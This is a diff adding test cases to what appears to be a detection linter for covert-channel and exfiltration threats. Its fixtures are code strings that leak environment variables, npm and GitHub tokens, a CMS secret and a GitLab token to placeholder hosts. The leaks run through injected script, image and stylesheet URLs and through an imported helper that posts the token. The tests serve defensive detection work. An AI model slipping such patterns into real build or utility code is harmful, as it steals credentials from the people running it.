@@ -54,4 +54,25 @@ describe('threat/covert-channel: a build step that rewrites every page around a 
     expect(threats(fence('python', "import os, json, base64\nblob = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()\ndef finish(html):\n    return html.replace(\"</head>\", f'<script src=\"https://cdn.page-beacon.example/b.js?d={blob}\"></script></head>')"))).toEqual(['threat/covert-channel 11:12 error']);
     expect(threats(fence('python', "import os\nversion = os.environ.get('DOCS_VERSION', 'dev')\ndef finish(html):\n    return html.replace(\"</head>\", f'<script src=\"https://cdn.page-beacon.example/b.js?v={version}\"></script></head>')"))).toEqual([]);
   });
+  it('reads the address built first in a variable named like the attribute it fills, in JavaScript and Python', () => {
+    expect(threats(fence('javascript', "const pair = Buffer.from(`${process.env.NPM_TOKEN}:${process.env.GH_TOKEN}`).toString('hex');\nmodule.exports = {\n  transform(page) {\n    const src = `https://hits.page-meter.example/h.gif?t=${pair}`;\n    return page.replace('</body>', `<img src=\"${src}\" width=\"1\"></body>`);\n  },\n};"))).toEqual(['threat/covert-channel 12:12 error']);
+    expect(threats(fence('javascript', "const site = process.env.SITE_NAME || 'docs';\nmodule.exports = {\n  transform(page) {\n    const src = `https://hits.page-meter.example/h.gif?s=${site}`;\n    return page.replace('</body>', `<img src=\"${src}\" width=\"1\"></body>`);\n  },\n};"))).toEqual([]);
+    expect(threats(fence('python', "import os\nhref = f\"https://fonts.style-host.example/c.css?k={os.environ['CMS_API_SECRET']}\"\ndef finish(html):\n    return html.replace('</head>', f'<link rel=\"stylesheet\" href=\"{href}\"></head>')"))).toEqual(['threat/covert-channel 11:12 error']);
+    expect(threats(fence('python', "import os\nhref = f\"https://fonts.style-host.example/c.css?family={os.environ.get('FONT_FAMILY', 'Inter')}\"\ndef finish(html):\n    return html.replace('</head>', f'<link rel=\"stylesheet\" href=\"{href}\"></head>')"))).toEqual([]);
+  });
+});
+
+describe('threat/exfiltration: a credential handed to a helper of another module together with what its own service answered', () => {
+  const check = (passed: string) => `import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { remind } from './reminder';\nconst stored = readFileSync(\`\${homedir()}/.config/gh/hosts.yml\`, 'utf8');\nconst pat = process.env.GH_TOKEN ?? /oauth_token:\\s*(\\S+)/.exec(stored)?.[1] ?? '';\nconst answer = await fetch('https://api.github.com/user', { headers: { Authorization: \`token \${pat}\` } });\nconst expiry = answer.headers.get('github-authentication-token-expiration');\nawait remind(${passed});\n`;
+  const reminder = "export async function remind(details) {\n  await fetch('https://queue.expiry-mailer.example/v2/jobs', { method: 'POST', body: JSON.stringify(details) });\n}\n";
+  it('reads the token posted by the imported helper, not the expiry alone', () => {
+    expect(shipped({ 'bin/check.ts': check('{ pat, expiry }'), 'bin/reminder.ts': reminder })).toEqual(['threat/exfiltration check.ts 8:7 error']);
+    expect(shipped({ 'bin/check.ts': check('{ expiry }'), 'bin/reminder.ts': reminder })).toEqual([]);
+  });
+  it('reads the same in Python, where the helper module is imported by name', () => {
+    const main = (passed: string) => `import os, requests\nfrom notifier import schedule\ntok = os.environ["GITLAB_TOKEN"]\nme = requests.get("https://gitlab.com/api/v4/personal_access_tokens/self", headers={"PRIVATE-TOKEN": tok}).json()\nschedule(${passed})\n`;
+    const notifier = 'import requests\ndef schedule(info):\n    requests.post("https://cron.expiry-mailer.example/add", json=info, timeout=5)\n';
+    expect(shipped({ 'scripts/main.py': main('{"token": tok, "expires": me["expires_at"]}'), 'scripts/notifier.py': notifier })).toEqual(['threat/exfiltration main.py 5:1 error']);
+    expect(shipped({ 'scripts/main.py': main('{"expires": me["expires_at"]}'), 'scripts/notifier.py': notifier })).toEqual([]);
+  });
 });
